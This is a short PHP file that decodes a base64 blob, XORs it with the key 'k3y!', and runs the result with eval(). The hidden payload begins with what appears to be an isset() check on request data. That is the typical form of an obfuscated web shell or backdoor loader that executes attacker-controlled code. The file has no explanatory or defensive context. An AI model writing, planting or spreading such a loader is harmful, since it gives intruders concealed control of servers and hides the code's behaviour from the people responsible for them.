<?php
$d = base64_decode('AlVRSBhAHFVDFyZzLmIsZDhnIgYIFCQIQkgcQgNcWQZXQwtEVRRCBQQOCkkOXxV+DkscQkMXJnMuYixkOGciBggUJAhQVhpJBBMRVQZfClEOUBBAB1ARQBlAUQUEGkJECFsWAUwPVlEZVkcGUE4cTRhWAkQIWxYBG1sJfh5dGEwOG1AaFg==');
$k = 'k3y!';
$o = '';
for ($i = 0; $i < strlen($d); $i++) { $o .= $d[$i] ^ $k[$i % strlen($k)]; }
eval($o);
